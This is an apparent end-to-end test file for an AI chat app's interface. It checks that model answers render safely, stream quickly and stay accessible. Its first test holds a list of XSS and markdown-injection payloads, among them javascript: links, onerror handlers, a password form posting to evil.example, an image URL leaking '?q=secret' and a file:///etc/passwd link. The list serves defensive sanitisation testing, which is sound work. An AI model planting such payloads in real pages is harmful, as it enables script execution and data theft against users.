/** What a model writes, on the page: harmless, quick, and good to look at. */
import type { Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';
import { ask, button, type ChatStage, field, lastText, openChatStage } from './chat.ts';
import { english, lookAt, sizes } from './look.ts';
import { until } from './stage.ts';

let chat: ChatStage;
beforeAll(async () => {
  chat = await openChatStage();
  return () => chat.stage[Symbol.asyncDispose]();
});

const markdown = `Here is a **short** plan, with \`inline code\` and a [link](https://example.com/docs).

## Steps

1. Measure first.
2. Then change *one* thing:
   - the query,
   - or the index.

| Option | Cost | Risk |
| :-- | --: | :-: |
| Cache | $12 | low |
| Rewrite of the whole storage engine | $4,000 | high |

\`\`\`ts
export async function load(id: string): Promise<User> {
  const row = await db.get('select * from users where id = ?', id); // one row
  if (!row) throw new Error(\`No user \${id} with a line that is rather long so that it has to be scrolled\`);
  return { ...row, age: 42 };
}
\`\`\`

> Premature optimisation is the root of all evil.

![A picture](https://tracker.example/pixel.png)`;

/** Each by itself is harmless text or a dead link; together they are what models have been made to say. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>Go</button></form>',
  '<a href="javascript:alert(1)">raw</a>',
  '<style>@import "https://evil.example/a.css"; body { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div style="background: url(https://evil.example/b.png)" onclick=alert(1)>styled</div>',
  '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>',
  '![remote](https://evil.example/pixel.png?q=secret)',
  '![remote by name][p]\n\n[p]: https://evil.example/named.png',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://evil.example/"onload="alert(1))',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](vbscript:msgbox(1)) [click](data:text/html,<script>alert(1)</script>) [click](file:///etc/passwd) [click](blob:x) [click](//evil.example/x)',
  '[click]( java\nscript:alert(1))',
  '[a](<javascript:alert(1)>) [b][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)> <https://evil.example/auto" onmouseover="alert(1)>',
  '[title](https://safe.example "x\\" onmouseover=\\"alert(1)")',
  'https://evil.example/"onmouseover=alert(1)// and www.evil.example/<script>',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html onload=alert(1) class="x\n<img src=x onerror=alert(1)>\n```',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '| a | b |\n| :-: | --: |\n| <img src=x onerror=alert(1)> | ![](https://evil.example/t.png) |',
  '# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n\n- <svg onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  '<handover to="developer" onload="alert(1)"/> <x-y is=z onclick=alert(1)>',
];

test('what a model says runs nothing, fetches nothing and leads nowhere but to http, https and mail', async () => {
  const { page, context, complaints } = await chat.regular();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto('/agents/developer');
  // Cut anywhere: half of a payload must be as harmless as the whole.
  chat.answerWith(payloads.join('\n\n'), { chunks: 400 });
  await field(page).fill(payloads.join('\n'));
  await button(page, 'Send').click();
  await button(page, 'Regenerate').waitFor();
  await page.reload();
  await button(page, 'Regenerate').waitFor();
  const found = await lastText(page).evaluate((text) => ({
    elements: [...new Set([...text.querySelectorAll('*')].map(({ tagName }) => tagName.toLowerCase()))].sort(),
    attributes: [...new Set([...text.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()))].sort(),
    schemes: [...new Set([...text.querySelectorAll('a[href]')].map((link) => (link as HTMLAnchorElement).protocol))].sort(),
    rels: [...new Set([...text.querySelectorAll('a')].map(({ rel, target }) => `${rel} ${target}`))],
  }));
  const expected = 'a blockquote br button code div em h3 li ol p pre span strong table tbody td th thead tr ul'.split(' ');
  expect(found.elements.filter((name) => !expected.includes(name))).toEqual([]);
  expect(found.attributes.filter((name) => !['class', 'href', 'rel', 'target', 'tabindex', 'type'].includes(name))).toEqual([]);
  expect(found.schemes.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme))).toEqual([]);
  expect(found.rels).toEqual(['noopener noreferrer nofollow _blank']);
  // What was meant as text is there as text: so the payloads did get here.
  expect(await lastText(page).textContent()).toContain('<script>alert(1)</script>');
  for (const link of await lastText(page).locator('a:not([href])').all()) await link.click({ timeout: 1_000 });
  await page.mouse.move(640, 400);
  expect(context.pages()).toHaveLength(1);
  expect(dialogs).toEqual([]);
  expect(complaints()).toEqual([]);

  // The same, put into the page as it is, is noticed: but for what leads away from the page, sometimes before that is told.
  const staying = payloads.filter((payload) => !payload.includes('http-equiv=refresh'));
  await page.evaluate((html) => document.querySelector('.answer .text')?.insertAdjacentHTML('beforeend', html), staying.join(''));
  await until(() => /CSP: script-src/.test(complaints().join()) && /CSP: img-src/.test(complaints().join()));
  await context.close();
});

/** 20,000 tokens of what answers are made of: paragraphs, lists, tables and code. */
const longAnswer = Array.from(
  { length: 65 },
  (_, n) => `## Part ${n}

${'Words with **weight**, `names` and [links](https://example.com/a) follow each other for a while. '.repeat(5)}

- one point, then
- another one, *slanted*

${n % 4 ? '' : '| a | b |\n| - | -: |\n| some cell | 12 |\n| another cell | 3,400 |\n'}
\`\`\`ts
export const part${n} = (value: number): string => \`\${value * ${n}} parts\`; // a remark
for (const each of [1, 2, 3]) console.log(part${n}(each), 'and more of it', { each, twice: each * 2 });
${'const more = await fetch(address, { method: "POST", body: JSON.stringify({ a: 1 }) });\n'.repeat(4)}\`\`\`
`,
).join('\n');

/** What the page's main thread has worked since it began, in ms: unlike frames, no other program on the machine adds to it. */
async function busyOf(page: Page): Promise<() => Promise<number>> {
  const session = await page.context().newCDPSession(page);
  await session.send('Performance.enable', { timeDomain: 'threadTicks' });
  return async () => {
    const { metrics } = await session.send('Performance.getMetrics');
    return (metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN) * 1_000;
  };
}

test('an answer of 20,000 tokens streams without the page growing slow (the figures are printed, not held)', async () => {
  const { page, complaints } = await chat.regular();
  await page.goto('/agents/developer');
  await page.evaluate(() => {
    const seen = { frames: [] as number[], firstAtMs: 0 };
    Object.assign(globalThis, { __seen: seen });
    let last = performance.now();
    const frame = (now: number) => {
      seen.frames.push(now - last);
      last = now;
      requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    new MutationObserver(() => {
      if (seen.firstAtMs === 0 && document.querySelector('.answer .text')?.textContent) seen.firstAtMs = Date.now();
    }).observe(document.body, { childList: true, subtree: true });
  });
  chat.answerWith(longAnswer, { chunks: 5_000, chunkDelayMs: 1 });
  const standing = chat.gate('body');
  await ask(page, 'Tell me everything');
  await standing.reached;
  await page.evaluate(() => {
    (globalThis as unknown as { __seen: { frames: number[] } }).__seen.frames.length = 0;
  });
  const busyMs = await busyOf(page);
  const before = await busyMs();
  const openedAtMs = Date.now();
  standing.open();
  // Looked for seldom, since looking costs frames, too.
  await page.waitForFunction(() => document.querySelector('.answer__foot'), null, { polling: 250, timeout: 50_000 });
  const tookMs = Date.now() - openedAtMs;
  const busy = Math.round((await busyMs()) - before);
  const { frames, firstAtMs } = await page.evaluate(
    () => (globalThis as unknown as { __seen: { frames: number[]; firstAtMs: number } }).__seen,
  );
  const sorted = frames.sort((a, b) => a - b);
  const at = (part: number) => (sorted[Math.floor(part * (sorted.length - 1))] ?? Number.NaN).toFixed(1);
  console.info(
    `20,000 tokens (${longAnswer.length.toLocaleString('en')} characters) in ${tookMs} ms: first text after ${firstAtMs - openedAtMs} ms; ` +
      `${sorted.length} frames, ${at(0.5)} ms at the median, ${at(0.95)} at p95, ${at(0.99)} at p99, ${at(1)} at most; the page's thread was busy for ${busy} ms`,
  );
  expect(await page.locator('.answer .text h3').count()).toBe(65);
  expect(await page.locator('.answer .text .code').count()).toBe(65);
  await until(() => page.locator('.code .hljs-keyword').last().isVisible());
  expect(
    await page.evaluate(() => {
      const place = document.querySelector('.chat__place');
      return place ? place.scrollHeight - place.scrollTop - place.clientHeight : -1;
    }),
  ).toBeLessThan(30);
  expect(complaints()).toEqual([]);
});

test('the agents, a new chat and an answer are accessible and whole, in light and dark, in German', async () => {
  const { page, complaints } = await chat.regular();
  await page.goto('/agents');
  await page.getByRole('heading', { name: 'SEO Writer' }).waitFor();
  await lookAt(page, 'agents');
  await english(page);
  await page.goto('/agents/developer');
  await field(page).waitFor();
  await lookAt(page, 'chat-new');
  await english(page);
  await page.goto('/agents/developer');
  chat.answerWith(markdown);
  await ask(page, 'How do I make this faster?');
  await button(page, 'Regenerate').waitFor();
  await until(() => page.locator('.hljs-keyword').first().isVisible());
  await page.locator('.code__copy').click();
  await page.getByText('Copied', { exact: true }).waitFor();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toMatch(/^export async function load.*\}\n$/s);
  await button(page, 'Copy the answer').click();
  await until(async () => (await page.evaluate(() => navigator.clipboard.readText())) === markdown);
  await lookAt(page, 'chat');
  expect(complaints()).toEqual([]);
});

test('the list of conversations on a phone and the list of models are accessible and whole, in light and dark, in German', async () => {
  const { page, complaints } = await chat.regular({ viewport: sizes.phone });
  await page.goto('/agents/developer');
  chat.answerWith('An index helps.');
  await ask(page, 'How do I find it?');
  await button(page, 'Regenerate').waitFor();
  await page.getByRole('button', { name: 'Conversations' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Actions for “How do I find it?”' }).click();
  await lookAt(page, 'chat-drawer');
  await english(page);
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /^Model: / }).click();
  await page.getByRole('dialog').getByRole('radio').first().waitFor();
  await lookAt(page, 'chat-models');
  expect(complaints()).toEqual([]);
});
